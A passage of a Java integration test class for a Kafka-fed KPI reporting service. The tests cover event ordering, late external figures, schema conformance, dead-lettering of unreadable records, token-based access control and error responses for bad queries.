        // A new event of the same project (same key, so the same partition) after the duplicates: once it counts, every
        // duplicate before it has been read, and was ignored.
        Events.send(Events.download(network, "p-" + network, AssetKind.SHEET, "2026-05-05T10:00:02Z"));

        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 3);
        await().during(Duration.ofSeconds(1)).atMost(Duration.ofSeconds(3)).until(() -> indirect(network, "2026") == 3);
    }

    @Test
    void aCorrectionMadeOnAnInstanceWhoseClockLagsCountsByTheActivitysVersion() {
        String network = Events.network();
        String activity = "c-" + network;
        Events.send(Events.activity(network, activity, "WORKSHOP", "2026-03-01", 1));
        // Checked in at 10:00:00, corrected to absent 3 s later on an instance whose clock is 5 s behind.
        Events.send(Events.attended(network, activity, "s1", "t1", true, "2026-03-01T10:00:00Z", 5L));
        Events.send(Events.attended(network, activity, "s1", "t1", false, "2026-03-01T09:59:58Z", 6L));
        // A later check-in of another teacher (same activity: same partition): once it counts, the two before it are in.
        Events.send(Events.attended(network, activity, "s1", "t2", true, "2026-03-01T10:01:00Z", 7L));

        await().atMost(Duration.ofSeconds(15)).until(() -> {
            JsonNode document = kpis(network, "2026");
            return document.get("reach").get("directParticipations").asLong() == 1;
        });
        // And stays so once every mark is in (counted by time, the first teacher would come back: 2).
        await().during(Duration.ofSeconds(2)).atMost(Duration.ofSeconds(5))
                .until(() -> kpis(network, "2026").get("reach").get("directParticipations").asLong() == 1);
    }

    @Test
    void externalFiguresAreReportedBesideTheDownloadsAndALaterReportReplacesAnEarlierOne() {
        String network = Events.network();
        Events.send(Events.download(network, "ext-" + network, AssetKind.SHEET, "2026-02-02T10:00:00Z"));
        Events.send(Events.externalFigure(network, "KlasCement", "resources viewed", "2026", 10, "2026-03-01T09:00:00Z"));
        Events.send(Events.externalFigure(network, "KlasCement", "resources viewed", "2026", 12, "2026-04-01T09:00:00Z"));
        // An older report that arrives late changes nothing; another metric is its own row.
        Events.send(Events.externalFigure(network, "KlasCement", "resources viewed", "2026", 7, "2026-02-01T09:00:00Z"));
        Events.send(Events.externalFigure(network, "KlasCement", "resources used", "2026", 3, "2026-04-01T09:00:00Z"));
        Events.send(Events.download(network, "ext-" + network, AssetKind.MATERIAL, "2026-02-02T10:00:01Z"));

        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 2);
        JsonNode document = kpis(network, "2026");
        assertThat(document.get("externalChannels")).hasSize(2);
        assertThat(document.get("externalChannels").valueStream()
                .map(row -> row.get("channel").asString() + "/" + row.get("metric").asString() + "=" + row.get("value").asDouble()))
                .containsExactlyInAnyOrder("KlasCement/resources viewed=12.0", "KlasCement/resources used=3.0");
        assertThat(document.get("reach").get("indirect").asLong()).as("never added into the downloads").isEqualTo(2);
        assertThat(kpis(network, "2025").get("externalChannels")).as("another period").isEmpty();
    }

    @Test
    void theDocumentFulfilsTheFunderContract() {
        String network = Events.network();
        // Every table filled: downloads, pre-service, a trajectory, an external channel.
        Events.send(Events.activity(network, "pre-" + network, "PRE_SERVICE_SESSION", "2026-03-03", 1));
        Events.send(Events.attended(network, "pre-" + network, "student-" + network, true, "2026-03-03T10:00:00Z"));
        Events.send(Events.activity(network, "traj-" + network, "BASIC_TRAJECTORY", "2026-03-04", 1));
        Events.send(Events.attended(network, "traj-" + network, "teacher-" + network, true, "2026-03-04T10:00:00Z"));
        Events.send(Events.externalFigure(network, "KlasCement", "resources viewed", "2026", 10, "2026-03-01T09:00:00Z"));
        Events.send(Events.download(network, "p-" + network, AssetKind.MATERIAL, "2026-02-02T10:00:00Z"));
        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 1);
        await().atMost(Duration.ofSeconds(15)).until(() -> {
            JsonNode document = kpis(network, "2026");
            return !document.get("preService").get("rows").isEmpty() && !document.get("trajectories").isEmpty()
                    && !document.get("externalChannels").isEmpty();
        });

        for (String selection : new String[]{network, "ALL"}) {
            JsonNode document = kpis(selection, "2026");
            assertThat(new EventSchemas(true).errors("/schemas/kpi-feed-v1.schema.json", document)).isEmpty();
            assertThat(document.get("provenance").get("eventsApplied").asLong()).isPositive();
        }
    }

    @Test
    void unreadableRecordsGoToTheDeadLetterTopicAndTheRestIsStillApplied() {
        String network = Events.network();
        String marker = "garbage-" + network;
        TestKafka.send(Topics.DOWNLOADS, "x", "{\"this is\": \"" + marker + "\"}");
        // The JSON null, and a download whose data lacks every field: neither may stop what comes after them.
        TestKafka.send(Topics.DOWNLOADS, "x", "null");
        TestKafka.send(Topics.DOWNLOADS, "x", "{\"specversion\":\"1.0\",\"id\":\"empty-" + marker + "\",\"source\":\"/test\",\"type\":\""
                + EventCatalog.DOWNLOAD_RECORDED.name() + "\",\"time\":\"2026-02-02T10:00:00Z\",\"data\":{}}");
        // Not text at all: the dead letter keeps its bytes as they were.
        byte[] binary = ("\u0000binary-" + marker + "\u0000").getBytes(java.nio.charset.StandardCharsets.UTF_8);
        binary[0] = (byte) 0xff;
        binary[binary.length - 1] = (byte) 0xc3;
        TestKafka.sendBytes(Topics.DOWNLOADS, "x", binary);
        Events.send(Events.download(network, "p-" + network, AssetKind.SHEET, "2026-02-02T10:00:00Z"));

        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 1);
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(TestKafka.rawRecords(DeadLetters.topicFor(Topics.DOWNLOADS, "analytics")))
                .anySatisfy(letter -> {
                    assertThat(letter.value()).isEqualTo(binary);
                    assertThat(new String(letter.headers().lastHeader(DeadLetters.ORIGIN).value(), java.nio.charset.StandardCharsets.UTF_8))
                            .startsWith(Topics.DOWNLOADS + "-");
                    assertThat(new String(letter.headers().lastHeader(DeadLetters.REASON).value(), java.nio.charset.StandardCharsets.UTF_8))
                            .contains("not a structured CloudEvent");
                }));
        await().atMost(Duration.ofSeconds(10)).until(() ->
                !TestKafka.records(DeadLetters.topicFor(Topics.DOWNLOADS, "analytics"), value -> value.contains(marker)).isEmpty());
        await().atMost(Duration.ofSeconds(10)).until(() ->
                !TestKafka.records(DeadLetters.topicFor(Topics.DOWNLOADS, "analytics"), value -> value.contains("empty-" + marker)).isEmpty());
    }

    @Test
    void figuresAreForTheOperationsTeamOfTheNetworkAndAllNetworksForAdministrators() {
        String ok = "/api/kpis?network=ISTEM&period=2026";
        assertThat(status(ok, null)).isEqualTo(401);
        assertThat(status(ok, TestTokens.forged("ADMIN"))).isEqualTo(401);
        assertThat(status(ok, TestTokens.expired("ADMIN"))).isEqualTo(401);
        assertThat(status(ok, TestTokens.ops("STEMBASIS"))).isEqualTo(403);
        assertThat(status(ok, TestTokens.ops("ISTEM"))).isEqualTo(200);
        assertThat(status("/api/kpis?network=ALL&period=2026", TestTokens.ops("ISTEM"))).isEqualTo(403);
        assertThat(status("/api/kpis?network=ALL&period=2026", TestTokens.admin())).isEqualTo(200);
    }

    private int status(String uri, String token) {
        var request = http.get().uri(uri);
        if (token != null) {
            request = request.header(HttpHeaders.AUTHORIZATION, token);
        }
        return request.retrieve().toEntity(String.class).getStatusCode().value();
    }

    @Test
    void badQueriesAreProblemDetails() {
        for (String query : new String[]{"network=ALL", "period=2026", "network=istem&period=2026", "network=ALL&period=26"}) {
            ResponseEntity<String> response = http.get().uri("/api/kpis?" + query)
                    .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().toEntity(String.class);
            assertThat(response.getStatusCode().value()).as(query).isEqualTo(400);
            assertThat(response.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
        }
    }
}
